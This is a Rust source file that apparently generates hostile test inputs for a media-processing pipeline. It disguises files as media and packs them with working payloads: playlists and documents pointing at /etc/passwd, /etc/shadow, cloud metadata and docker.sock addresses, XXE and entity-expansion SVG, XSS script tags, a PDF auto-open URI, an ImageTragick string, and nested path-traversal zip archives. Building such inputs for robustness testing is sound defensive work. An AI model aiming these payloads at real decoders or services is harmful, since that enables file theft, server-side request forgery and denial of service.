//! Playlists, scripts and documents under the names of media: what leads a decoder or a browser somewhere else.

use super::{Made, again};
use crate::hostile::Use;
use crate::hostile::bases::Bases;
use crate::hostile::pack::crc32;
use crate::rng::Rng;

/// Where texts point to: files, addresses inside, and ways round a list of forbidden ones.
const TARGETS: [&str; 12] = [
    "file:///etc/passwd",
    "/proc/self/environ",
    "../../../../../../etc/shadow",
    "http://127.0.0.1:9/",
    "http://169.254.169.254/latest/meta-data/",
    "concat:/etc/hosts|/etc/passwd",
    "subfile,,start,0,end,64,,:/etc/passwd",
    "crypto+file:///etc/passwd",
    "data:text/plain;base64,AAAA",
    "tcp://127.0.0.1:5672",
    "unix:/run/docker.sock",
    "fd:0",
];

/// A name for a kind of text, and the text, in which `@` is the target.
type Text = (&'static str, &'static str);

#[rustfmt::skip]
const TEXTS: [Text; 18] = [
    ("m3u8", "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI=\"@\"\n#EXTINF:9,\n@\n#EXT-X-ENDLIST\n"),
    ("m3u", "#EXTM3U\n#EXTINF:5,a\n@\n"),
    ("ffconcat", "ffconcat version 1.0\nfile '@'\nduration 5\nfile '@'\n"),
    ("mpd", "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT9S\"><Period><AdaptationSet mimeType=\"video/mp4\"><Representation id=\"1\" bandwidth=\"1\"><BaseURL>@</BaseURL></Representation></AdaptationSet></Period></MPD>"),
    ("sdp", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\na=control:@\n"),
    ("asx", "<asx version=\"3.0\"><entry><ref href=\"@\"/></entry></asx>"),
    ("pls", "[playlist]\nNumberOfEntries=1\nFile1=@\n"),
    ("xspf", "<?xml version=\"1.0\"?><playlist version=\"1\" xmlns=\"http://xspf.org/ns/0/\"><trackList><track><location>@</location></track></trackList></playlist>"),
    ("smil", "<smil><body><video src=\"@\"/></body></smil>"),
    ("rtsptext", "RTSPtext\n@\n"),
    ("cue", "FILE \"@\" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n"),
    ("svg", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"@\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"316228\" height=\"316228\"><image href=\"@\"/><text>&x;</text><script>alert(1)</script></svg>"),
    ("entities", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><svg>&d;</svg>"),
    ("html", "<!doctype html><script src=\"@\"></script><img src=\"@\" onerror=alert(1)>"),
    ("pdf", "%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(@)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"),
    ("postscript", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(@) (r) file closefile\nshowpage\n"),
    ("imagetragick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(@|id)'\npop graphic-context\n"),
    ("script", "#!/bin/sh\ncat @\n"),
];

/// How a text is dressed up.
#[derive(Clone, Copy)]
enum Dress {
    Plain,
    /// Behind the beginning of a real file.
    Headed,
    /// Behind a byte that no text has.
    Binary,
    /// In 16-bit letters, with their mark.
    Wide,
    /// Behind a page of spaces.
    Late,
}

const DRESSES: [Dress; 5] = [
    Dress::Plain,
    Dress::Headed,
    Dress::Binary,
    Dress::Wide,
    Dress::Late,
];

/// Texts and archives under every name and use.
pub(super) fn make(bases: &Bases, turn: u32, rng: &mut Rng) -> Made {
    let disguise = bases.any(rng);
    let usage = Use::ALL[rng.below(4) as usize];
    let kinds = TEXTS.len() as u32 + 3;
    let made = |name: &str, bytes| {
        let label = format!("{name}-as-{}", disguise.name);
        Made::new(label, disguise.extension, usage, bytes)
    };
    let at = (turn % kinds) as usize;
    match TEXTS.get(at) {
        Some((name, text)) => {
            let target = TARGETS[rng.below(TARGETS.len() as u32) as usize];
            let dress = DRESSES[(turn / kinds) as usize % DRESSES.len()];
            let bytes = dressed(&text.replace('@', target), dress, &disguise.bytes);
            made(name, bytes)
        }
        None => {
            let (name, bytes) = match at - TEXTS.len() {
                0 => ("zip", zip_in_zip(1 + rng.below(40))),
                1 => ("gzip", gzip(&disguise.bytes)),
                _ => ("elsewhere-mov", external_track(bases, rng)),
            };
            again(made(name, bytes), turn / kinds, rng)
        }
    }
}

fn dressed(text: &str, dress: Dress, disguise: &[u8]) -> Vec<u8> {
    let head = &disguise[..disguise.len().min(16)];
    match dress {
        Dress::Plain => text.as_bytes().to_vec(),
        Dress::Headed => [head, text.as_bytes()].concat(),
        Dress::Binary => [text.as_bytes(), b"\x01\x00"].concat(),
        Dress::Wide => {
            let wide = text.encode_utf16().flat_map(u16::to_le_bytes);
            [0xFF, 0xFE].into_iter().chain(wide).collect()
        }
        Dress::Late => [" \n".repeat(600).as_bytes(), text.as_bytes()].concat(),
    }
}

/// An archive with one file, which is an archive with one file, and so on.
fn zip_in_zip(depth: u32) -> Vec<u8> {
    (0..depth).fold(b"the end".to_vec(), |inner, _| {
        zip("../../inner.zip", &inner)
    })
}

/// A ZIP archive (PKWARE's application note) with one stored file.
fn zip(name: &str, content: &[u8]) -> Vec<u8> {
    let sizes = [(content.len() as u32).to_le_bytes(); 2].concat();
    let crc = crc32(content).to_le_bytes();
    let lengths = [(name.len() as u16).to_le_bytes(), [0; 2]].concat();
    let common = [&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0][..], &crc, &sizes, &lengths].concat();
    let local = [b"PK\x03\x04", &common[..], name.as_bytes(), content].concat();
    let central = [b"PK\x01\x02\x14\0", &common[..], &[0; 14], name.as_bytes()].concat();
    let mut end = b"PK\x05\x06\0\0\0\0\x01\0\x01\0".to_vec();
    end.extend((central.len() as u32).to_le_bytes());
    end.extend((local.len() as u32).to_le_bytes());
    end.extend([0, 0]);
    [local, central, end].concat()
}

/// A gzip file (RFC 1952) with its content stored.
fn gzip(content: &[u8]) -> Vec<u8> {
    let part = &content[..content.len().min(65_535)];
    let length = part.len() as u16;
    [
        &[0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255, 1][..],
        &length.to_le_bytes(),
        &(!length).to_le_bytes(),
        part,
        &crc32(part).to_le_bytes(),
        &u32::from(length).to_le_bytes(),
    ]
    .concat()
}

/// A film whose data references do not say "in this file", but name another one.
fn external_track(bases: &Bases, rng: &mut Rng) -> Vec<u8> {
    let mut file = bases.named("prores").bytes.clone();
    let target = TARGETS[rng.below(TARGETS.len() as u32) as usize].as_bytes();
    let references: Vec<usize> = file
        .windows(4)
        .enumerate()
        .filter(|(_, name)| name == b"url ")
        .map(|(at, _)| at)
        .collect();
    for at in references {
        // Flag 1 would mean "in this file". The address overwrites what comes next: the file is broken in any case.
        let address = [&[0; 4][..], target, b"\0"].concat();
        if let Some(place) = file.get_mut(at + 4..at + 4 + address.len()) {
            place.copy_from_slice(&address);
        }
    }
    file
}
